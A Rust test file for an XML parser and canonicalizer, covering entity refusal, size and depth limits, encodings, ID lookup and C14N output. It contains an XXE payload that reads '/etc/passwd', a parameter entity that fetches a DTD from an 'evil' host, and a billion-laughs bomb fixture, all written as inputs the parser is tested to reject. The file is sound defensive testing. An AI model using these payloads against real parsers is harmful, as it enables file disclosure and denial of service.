//! Safety rules, limits, encodings and API behaviour.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::indexing_slicing)] // test helpers, not only #[test] fns

mod common;
use common::{c14n, read};
use shomei_xml::{
    canonicalize, canonicalize_excluding, C14nMethod, Document, LimitKind, Limits, NodeKind,
    XmlError,
};
use std::time::{Duration, Instant};

const INC: C14nMethod = C14nMethod::Inclusive10 { comments: false };

fn exc(prefixes: &[&str]) -> C14nMethod {
    C14nMethod::Exclusive {
        comments: false,
        inclusive_prefixes: prefixes.iter().map(|s| s.to_string()).collect(),
    }
}

fn sub(xml: &str, id: &str, m: &C14nMethod) -> String {
    let doc = Document::parse(xml.as_bytes()).unwrap();
    let n = doc.find_by_id(id).unwrap().unwrap();
    let mut out = Vec::new();
    canonicalize(&doc, Some(n), m, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn billion_laughs_refused_quickly() {
    let t = Instant::now();
    let err = Document::parse(&read("xml-unsigned/pyhanko_xmlbomb.xml")).unwrap_err();
    assert!(t.elapsed() < Duration::from_secs(1));
    match &err {
        XmlError::EntityDeclared { name, position } => {
            assert_eq!(name, "a");
            assert_eq!((position.line, position.column), (2, 1));
        }
        other => panic!("unexpected {other:?}"),
    }
    assert!(err.to_string().contains("entity declaration `a`"), "{err}");
}

#[test]
fn external_entity_and_parameter_entity_refused() {
    let xxe = br#"<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
    assert!(
        matches!(Document::parse(xxe), Err(XmlError::EntityDeclared { name, .. }) if name == "x")
    );
    let pe = br#"<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]><a/>"#;
    assert!(
        matches!(Document::parse(pe), Err(XmlError::EntityDeclared { name, .. }) if name == "%p")
    );
    let peref = br#"<!DOCTYPE a [%p;]><a/>"#;
    assert!(matches!(Document::parse(peref), Err(XmlError::Dtd { .. })));
}

#[test]
fn undeclared_entity_reference_refused() {
    let err = Document::parse(b"<a>\n&nbsp;</a>").unwrap_err();
    match err {
        XmlError::UnknownEntity { name, position } => {
            assert_eq!(name, "nbsp");
            assert_eq!((position.line, position.column), (2, 1));
        }
        other => panic!("unexpected {other:?}"),
    }
}

#[test]
fn doctype_with_external_dtd_accepted_and_not_fetched() {
    let doc = Document::parse(br#"<!DOCTYPE a SYSTEM "http://127.0.0.1:1/never.dtd"><a x="1"/>"#)
        .unwrap();
    assert!(doc.has_doctype());
    assert_eq!(
        c14n(
            br#"<!DOCTYPE a PUBLIC "-//X//EN" "x.dtd" [<!ELEMENT a EMPTY><!-- c -->]><a/>"#,
            &INC
        ),
        b"<a></a>"
    );
}

#[test]
fn limits_enforced() {
    let mut l = Limits::default();
    l.max_depth = 3;
    assert!(Document::parse_with(b"<a><b><c/></b></a>", &l).is_ok());
    let e = Document::parse_with(b"<a><b><c><d/></c></b></a>", &l).unwrap_err();
    assert!(
        matches!(
            e,
            XmlError::Limit {
                kind: LimitKind::Depth,
                ..
            }
        ),
        "{e}"
    );

    let mut l = Limits::default();
    l.max_attributes = 2;
    let e = Document::parse_with(b"<a x='1' y='2' z='3'/>", &l).unwrap_err();
    assert!(matches!(
        e,
        XmlError::Limit {
            kind: LimitKind::Attributes,
            ..
        }
    ));

    let mut l = Limits::default();
    l.max_name_len = 4;
    let e = Document::parse_with(b"<abcde/>", &l).unwrap_err();
    assert!(matches!(
        e,
        XmlError::Limit {
            kind: LimitKind::NameLength,
            ..
        }
    ));

    let mut l = Limits::default();
    l.max_input_bytes = 10;
    let e = Document::parse_with(b"<a>0123456789</a>", &l).unwrap_err();
    assert!(matches!(
        e,
        XmlError::Limit {
            kind: LimitKind::InputBytes,
            ..
        }
    ));

    let mut l = Limits::default();
    l.max_nodes = 3;
    let e = Document::parse_with(b"<a><b/><c/><d/></a>", &l).unwrap_err();
    assert!(matches!(
        e,
        XmlError::Limit {
            kind: LimitKind::Nodes,
            ..
        }
    ));

    // Default depth limit: 256.
    let deep = format!("{}{}", "<a>".repeat(300), "</a>".repeat(300));
    let e = Document::parse(deep.as_bytes()).unwrap_err();
    assert!(matches!(
        e,
        XmlError::Limit {
            kind: LimitKind::Depth,
            max: 256,
            ..
        }
    ));
}

#[test]
fn deep_document_canonicalizes_without_recursion() {
    let mut l = Limits::default();
    l.max_depth = 10_000;
    let deep = format!("{}{}", "<a>".repeat(5_000), "</a>".repeat(5_000));
    let doc = Document::parse_with(deep.as_bytes(), &l).unwrap();
    let mut out = Vec::new();
    canonicalize(&doc, None, &INC, &mut out).unwrap();
    assert_eq!(out.len(), deep.len());
}

#[test]
fn malformed_documents_refused() {
    for bad in [
        &b"<a>"[..],
        b"<a></b>",
        b"<a x='1' x='2'/>",
        b"<a><!-- a -- b --></a>",
        b"<p:a/>",
        b"<a/><b/>",
        b"text<a/>",
        b"<a>]]></a>",
        b"<a x='<'/>",
        b"<a>&#0;</a>",
        b"<a>\x01</a>",
        b"<a xmlns:p='u' xmlns:q='u' p:x='1' q:x='2'/>",
        b"",
    ] {
        assert!(
            Document::parse(bad).is_err(),
            "accepted {:?}",
            String::from_utf8_lossy(bad)
        );
    }
}

#[test]
fn encodings() {
    let utf8_bom = b"\xEF\xBB\xBF<a>\xC3\xA9</a>";
    assert_eq!(c14n(utf8_bom, &INC), "<a>é</a>".as_bytes());
    let s = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><a>é日本</a>";
    let mut le = vec![0xFF, 0xFE];
    let mut be = vec![0xFE, 0xFF];
    for u in s.encode_utf16() {
        le.extend_from_slice(&u.to_le_bytes());
        be.extend_from_slice(&u.to_be_bytes());
    }
    assert_eq!(c14n(&le, &INC), "<a>é日本</a>".as_bytes());
    assert_eq!(c14n(&be, &INC), "<a>é日本</a>".as_bytes());
    // ISO-8859-1 is true Latin-1: 0x80 is U+0080, not the euro sign of windows-1252.
    let latin1 = b"<?xml version='1.0' encoding='ISO-8859-1'?><a>\xE9\x80</a>";
    assert_eq!(c14n(latin1, &INC), "<a>é\u{80}</a>".as_bytes());
    let doc = Document::parse(&read("xml-unsigned/dss_sample-latin1.xml")).unwrap();
    assert_eq!(
        doc.declared_encoding()
            .map(str::to_ascii_uppercase)
            .as_deref(),
        Some("ISO-8859-1")
    );
    // Invalid UTF-8 and unknown encodings are refused.
    assert!(matches!(
        Document::parse(b"<a>\xFF</a>"),
        Err(XmlError::Encoding { .. })
    ));
    assert!(matches!(
        Document::parse(b"<?xml version='1.0' encoding='x-nope'?><a/>"),
        Err(XmlError::Encoding { .. })
    ));
    // CR LF is normalized; a CR from a character reference survives as &#xD;.
    assert_eq!(c14n(b"<a>x\r\ny\rz&#13;</a>", &INC), b"<a>x\ny\nz&#xD;</a>");
}

#[test]
fn japanese_utf8_and_shift_jis_round_trip() {
    let utf8 = Document::parse(&read("xml-unsigned/japanese/weekly-utf-8.xml")).unwrap();
    let sjis = Document::parse(&read("xml-unsigned/japanese/weekly-shift_jis.xml")).unwrap();
    assert_eq!(sjis.declared_encoding(), Some("Shift_JIS"));
    assert!(matches!(
        utf8.kind(utf8.root()),
        Some(NodeKind::Element {
            local_name: "週報",
            ..
        })
    ));
    let text = utf8.text_content(utf8.root());
    assert!(text.contains("山田") && text.contains("太郎"), "{text}");
    assert_eq!(text, sjis.text_content(sjis.root()));
    let a = c14n(&read("xml-unsigned/japanese/weekly-utf-8.xml"), &INC);
    let b = c14n(&read("xml-unsigned/japanese/weekly-shift_jis.xml"), &INC);
    assert_eq!(a, b);
    // Canonical output re-parses to the same text.
    let again = Document::parse(&a).unwrap();
    assert_eq!(again.text_content(again.root()), text);
}

#[test]
fn find_by_id_and_duplicates() {
    let doc = Document::parse(
        br#"<r><a Id="x"/><b ID="y"/><c id="z"/><d xml:id="w"/><e p:Id="q" xmlns:p="u"/></r>"#,
    )
    .unwrap();
    for id in ["x", "y", "z", "w"] {
        assert!(doc.find_by_id(id).unwrap().is_some(), "{id}");
    }
    assert_eq!(doc.find_by_id("q").unwrap(), None);
    assert_eq!(doc.find_by_id("none").unwrap(), None);
    let dup = Document::parse(br#"<r><a Id="x"/><b><c ID="x"/></b></r>"#).unwrap();
    assert!(matches!(dup.find_by_id("x"), Err(XmlError::DuplicateId { id }) if id == "x"));
}

#[test]
fn method_uris_round_trip() {
    for uri in [
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315",
        "http://www.w3.org/TR/2001/REC-xml-c14n-20010315#WithComments",
        "http://www.w3.org/2006/12/xml-c14n11",
        "http://www.w3.org/2006/12/xml-c14n11#WithComments",
        "http://www.w3.org/2001/10/xml-exc-c14n#",
        "http://www.w3.org/2001/10/xml-exc-c14n#WithComments",
    ] {
        assert_eq!(C14nMethod::from_uri(uri).unwrap().uri(), uri);
    }
    assert!(
        C14nMethod::from_uri("http://www.w3.org/2000/09/xmldsig#enveloped-signature").is_none()
    );
}

const NESTED: &str = r#"<r xmlns="urn:d" xmlns:a="urn:a" xmlns:b="urn:b" xml:lang="ja" xml:id="top"><s Id="s" b:x="1"><c>t</c><a:k/></s></r>"#;

#[test]
fn subtree_inclusive_inherits_namespaces_and_xml_attributes() {
    assert_eq!(
        sub(NESTED, "s", &INC),
        r#"<s xmlns="urn:d" xmlns:a="urn:a" xmlns:b="urn:b" Id="s" xml:id="top" xml:lang="ja" b:x="1"><c>t</c><a:k></a:k></s>"#
    );
    // C14N 1.1: xml:id is not inherited.
    assert_eq!(
        sub(NESTED, "s", &C14nMethod::Inclusive11 { comments: false }),
        r#"<s xmlns="urn:d" xmlns:a="urn:a" xmlns:b="urn:b" Id="s" xml:lang="ja" b:x="1"><c>t</c><a:k></a:k></s>"#
    );
    // C14N 1.1 xml:base fix-up is not implemented: refused rather than wrong.
    let based = r#"<r xml:base="http://x/y/"><s Id="s"/></r>"#;
    let doc = Document::parse(based.as_bytes()).unwrap();
    let s = doc.find_by_id("s").unwrap().unwrap();
    let e = canonicalize(
        &doc,
        Some(s),
        &C14nMethod::Inclusive11 { comments: false },
        &mut Vec::new(),
    )
    .unwrap_err();
    assert!(matches!(e, XmlError::Unsupported { .. }));
}

#[test]
fn subtree_exclusive_renders_visibly_utilized_only() {
    assert_eq!(
        sub(NESTED, "s", &exc(&[])),
        r#"<s xmlns="urn:d" xmlns:b="urn:b" Id="s" b:x="1"><c>t</c><a:k xmlns:a="urn:a"></a:k></s>"#
    );
    assert_eq!(
        sub(NESTED, "s", &exc(&["a"])),
        r#"<s xmlns="urn:d" xmlns:a="urn:a" xmlns:b="urn:b" Id="s" b:x="1"><c>t</c><a:k></a:k></s>"#
    );
    // #default in the prefix list on an unprefixed-namespace-free apex.
    let x = r#"<r xmlns="urn:d"><p:s xmlns:p="urn:p" Id="s"><c/></p:s></r>"#;
    assert_eq!(
        sub(x, "s", &exc(&[])),
        r#"<p:s xmlns:p="urn:p" Id="s"><c xmlns="urn:d"></c></p:s>"#
    );
    assert_eq!(
        sub(x, "s", &exc(&["#default"])),
        r#"<p:s xmlns="urn:d" xmlns:p="urn:p" Id="s"><c></c></p:s>"#
    );
}

#[test]
fn escaping_and_ordering() {
    let x = "<a z='&#9;&#10;&#13;\"&lt;&gt;&amp;' b:y='1' a='2' xmlns:b='urn:b' xmlns:c='urn:a'><![CDATA[<&>]]>\"'</a>";
    assert_eq!(
        String::from_utf8(c14n(x.as_bytes(), &INC)).unwrap(),
        "<a xmlns:b=\"urn:b\" xmlns:c=\"urn:a\" a=\"2\" z=\"&#x9;&#xA;&#xD;&quot;&lt;>&amp;\" b:y=\"1\">&lt;&amp;&gt;\"'</a>"
    );
}

#[test]
fn enveloped_signature_exclusion() {
    let x = br#"<doc Id="d"><v>1</v><ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><ds:SignedInfo/></ds:Signature></doc>"#;
    let doc = Document::parse(x).unwrap();
    let sig = doc.elements_by_name(Some("http://www.w3.org/2000/09/xmldsig#"), "Signature");
    let mut out = Vec::new();
    canonicalize_excluding(&doc, None, Some(sig[0]), &INC, &mut out).unwrap();
    assert_eq!(out, br#"<doc Id="d"><v>1</v></doc>"#);
}

#[test]
fn comments_and_pis() {
    let x = b"<?pi a?><!--c1--><a><!--in--><?p?></a><!--c2-->";
    assert_eq!(c14n(x, &INC), b"<?pi a?>\n<a><?p?></a>");
    assert_eq!(
        c14n(x, &C14nMethod::Inclusive10 { comments: true }),
        b"<?pi a?>\n<!--c1-->\n<a><!--in--><?p?></a>\n<!--c2-->"
    );
}

#[test]
fn subtree_must_be_an_element() {
    let doc = Document::parse(b"<a>t</a>").unwrap();
    let t = doc.children(doc.root()).next().unwrap();
    assert!(matches!(
        canonicalize(&doc, Some(t), &INC, &mut Vec::new()),
        Err(XmlError::ApiMisuse { .. })
    ));
}
